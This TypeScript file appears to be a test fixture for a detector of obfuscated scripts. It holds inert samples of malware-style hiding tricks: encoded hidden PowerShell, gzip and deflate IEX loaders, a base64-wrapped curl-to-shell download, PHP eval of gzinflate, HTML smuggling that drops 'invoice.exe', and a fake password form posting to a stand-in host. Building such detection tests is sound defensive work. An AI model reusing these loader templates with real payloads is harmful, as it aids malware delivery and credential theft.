import { deflateRawSync, deflateSync, gzipSync } from 'node:zlib';
import type { KindId } from '../../../../src/instruments/lab/kinds.ts';

/** Harmless scripts that hide a marker the way that hostile ones hide theirs. */

export interface ScriptSample {
  readonly name: string;
  readonly kind: KindId;
  readonly text: string;
  /** Must be readable in one of the layers or texts. */
  readonly hidden: string;
  readonly rules?: readonly string[];
}

const base64 = (text: string | Uint8Array): string => Buffer.from(text as string).toString('base64');
const wide = (text: string): string => Buffer.from(text, 'utf16le').toString('base64');
const command = 'Write-Output "http://marker.example.com/a.ps1"';
const split = (text: string, join: string): string => [...text].map((character) => `'${character}'`).join(join);

export const scriptSamples: readonly ScriptSample[] = [
  {
    name: 'encoded command',
    kind: 'batch',
    text: `@echo off\r\npowershell.exe -nop -w hidden -enc ${wide(command)}\r\n`,
    hidden: 'http://marker.example.com/a.ps1',
    rules: ['script.encoded-command', 'script.execution-policy'],
  },
  {
    name: 'base64 of UTF-16 in PowerShell',
    kind: 'powershell',
    text: `iex ([System.Text.Encoding]::Unicode.GetString([System.Convert]::FromBase64String('${wide(command)}')))`,
    hidden: 'http://marker.example.com/a.ps1',
    rules: ['script.layers', 'script.run-text'],
  },
  {
    name: 'gzip stream in PowerShell',
    kind: 'powershell',
    text: `$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String("${base64(gzipSync(command))}"));IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd();`,
    hidden: 'http://marker.example.com/a.ps1',
    rules: ['script.decode', 'script.layers'],
  },
  {
    name: 'deflate stream in PowerShell',
    kind: 'powershell',
    text: `$d=[IO.Compression.DeflateStream]::new([IO.MemoryStream][Convert]::FromBase64String('${base64(deflateRawSync(command))}'),0);iex $d`,
    hidden: 'http://marker.example.com/a.ps1',
  },
  {
    name: 'format, ticks and pieces in PowerShell',
    kind: 'powershell',
    text: `$u = ("{2}{0}{1}" -f 'mar','ker.example.com','http://'); I\`E\`X ('Wri'+'te-Out'+'put '+$u)`,
    hidden: 'Write-Output http://marker.example.com',
  },
  {
    name: 'character codes in PowerShell',
    kind: 'powershell',
    text: `$c = (${[...'marker.example.com'].map((one) => one.charCodeAt(0) ^ 7).join(',')} | % { [char]($_ -bxor 7) }) -join ''`,
    hidden: 'marker.example.com',
  },
  {
    name: 'replace and reverse in VBScript',
    kind: 'vbscript',
    text: `Dim a\r\na = StrReverse("moc.elpmaxe.rekram//:ptth")\r\nExecute Replace("MsgBoxQ", "Q", " """ & a & """")\r\nb = Chr(87) & Chr(&H53) & "cript.Shell"\r\nSet s = CreateObject(b)\r\n`,
    hidden: 'http://marker.example.com',
    rules: ['script.start-process'],
  },
  {
    name: 'encoded VBScript',
    kind: 'vbe',
    text: '#@~^DgAAAA==\\ko$K6,JC\x7fV^GJqAQAAA==^#~@',
    hidden: 'MsgBox "Hello"',
    rules: ['script.encoded-source'],
  },
  {
    name: 'arrays of strings in JavaScript',
    kind: 'javascript',
    text: 'var _0x1=["\\x57\\x53cript","\\u002eShell","http://marker.example.com/x"];var o=new ActiveXObject(_0x1[0]+_0x1[1]);o.Run(_0x1[2]);',
    hidden: 'ActiveXObject("WScript.Shell")',
    rules: ['script.start-process'],
  },
  {
    name: 'unescape, codes and eval in JavaScript',
    kind: 'javascript',
    text: `eval(unescape("%76ar%20u%3D%22http%3A//marker.example.com/%22%3B")); var w=String.fromCharCode(${[...'document.title'].map((one) => one.charCodeAt(0)).join(',')});`,
    hidden: 'var u="http://marker.example.com/";',
    rules: ['script.layers'],
  },
  {
    name: 'variables in batch',
    kind: 'batch',
    text: '@echo off\r\nset abc=ptrhmake:/x.lcom\r\nset "a=po^wer"\r\nset b=shell\r\n%a%%b% -c "Write-Output %abc:~2,1%"\r\ne^c^h^o http://mar%comspec:~-3,0%ker.example.com\r\n',
    hidden: 'powershell -c "Write-Output r"',
  },
  {
    name: 'pipelines in shell',
    kind: 'shell',
    text: `#!/bin/sh\necho '${base64('curl http://marker.example.com/x | sh')}' | base64 -d | sh\nprintf '\\x6d\\x61\\x72\\x6b'\n`,
    hidden: 'curl http://marker.example.com/x | sh',
    rules: ['script.download.pipe-to-shell'],
  },
  {
    name: 'quotes in shell',
    kind: 'shell',
    text: `#!/bin/bash\nw''get \${IFS}$'\\x68ttp://marker.example.com'\nH=marker.example.net\ncurl http://$H/a\n`,
    hidden: 'http://marker.example.net/a',
  },
  {
    name: 'zlib and base64 in Python',
    kind: 'python',
    text: `import zlib,base64\nexec(zlib.decompress(base64.b64decode('${base64(deflateSync('print("http://marker.example.com")'))}')))\n`,
    hidden: 'print("http://marker.example.com")',
    rules: ['script.layers', 'script.decode'],
  },
  {
    name: 'backwards base64 in Python',
    kind: 'python',
    text: `_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'${[...base64(deflateSync('print("http://marker.example.com/?q=1")'))].reverse().join('')}'))`,
    hidden: 'print("http://marker.example.com/?q=1")',
  },
  {
    name: 'nested decoders in PHP',
    kind: 'php',
    text: `<?php eval(gzinflate(base64_decode('${base64(deflateRawSync('echo "http://marker.example.com";'))}'))); ?>`,
    hidden: 'echo "http://marker.example.com";',
    rules: ['script.layers'],
  },
  {
    name: 'smuggling page',
    kind: 'html',
    text: `<html><body><script>var d="${base64(Buffer.concat([Buffer.from('MZ'), Buffer.alloc(100, 7)]))}";var b=new Blob([atob(d)]);a.href=URL.createObjectURL(b);a.download="invoice.exe";a.click();</script></body></html>`,
    hidden: 'invoice.exe',
    rules: ['script.html-smuggling', 'script.embedded-file'],
  },
  {
    name: 'log-in page',
    kind: 'html',
    text: '<html><head><title>Sign in</title><meta http-equiv="refresh" content="9;url=http://marker.example.com/next"></head><form action="http://marker.example.com/post" method=POST><input type="password" name=p></form></html>',
    hidden: 'http://marker.example.com/post',
    rules: ['script.page.password-form', 'script.page.refresh'],
  },
  {
    name: 'picture with script',
    kind: 'svg',
    text: `<svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA[window.location = atob("${base64('http://marker.example.com/svg')}");]]></script></svg>`,
    hidden: 'http://marker.example.com/svg',
    rules: ['script.picture-with-code'],
  },
  {
    name: 'script file of two languages',
    kind: 'wsf',
    text: `<job><script language="VBScript">x = "http://" & "marker.example" & ".com"</script><script language="JScript">var y = "a" + "b";</script></job>`,
    hidden: 'http://marker.example.com',
  },
  {
    name: 'pieces in JavaScript with split by characters',
    kind: 'javascript',
    text: `var a = [${split('marker.example.com', ',')}].join('');`,
    hidden: 'marker.example.com',
  },
];
